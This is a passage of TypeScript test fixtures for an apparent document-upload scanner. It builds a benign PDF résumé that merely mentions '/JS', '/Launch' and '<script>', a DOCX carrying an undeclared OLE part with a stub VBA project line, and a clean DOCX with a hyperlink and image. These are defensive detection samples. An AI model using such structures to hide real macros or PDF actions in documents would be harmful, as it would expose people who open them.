    {
      what: "a PDF whose page text mentions JavaScript, /JS and <script> (strings are not names)",
      name: "resume.pdf",
      bytes: buildPdf(
        [
          "<< /Type /Catalog /Pages 2 0 R >>",
          "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
          streamObject(
            "",
            Buffer.from("BT /F1 12 Tf 72 720 Td (Skills: JavaScript, /JS, /Launch, <script> tags) Tj ET"),
          ),
        ],
        "/Info << /Title (JavaScript developer) >> ",
      ),
    },
  ];
}

/** A plain DOCX with one more part, `name`, holding a VBA project (an OLE compound file) and nothing declaring it. */
export function docxWithOlePart(name: string): Buffer {
  return zip([
    { name: "[Content_Types].xml", content: CONTENT_TYPES(DOCX_MAIN) },
    { name: "_rels/.rels", content: RELS },
    { name: "word/document.xml", content: DOCUMENT("Dana") },
    { name, content: Buffer.concat([OLE_HEADER, Buffer.from('Attribute VB_Name = "ThisDocument"')]) },
  ]);
}

/** A DOCX as Word writes one with a hyperlink (an external relationship) and a picture. */
export function docxWithLinkAndPicture(): Buffer {
  return zip([
    {
      name: "[Content_Types].xml",
      content: CONTENT_TYPES(DOCX_MAIN, '<Default Extension="png" ContentType="image/png"/>'),
    },
    { name: "_rels/.rels", content: RELS },
    { name: "word/document.xml", content: DOCUMENT("Dana Reyes") },
    {
      name: "word/_rels/document.xml.rels",
      content:
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/dana-reyes" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/></Relationships>',
    },
    {
      name: "word/media/image1.png",
      content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]),
      store: true,
    },
  ]);
}
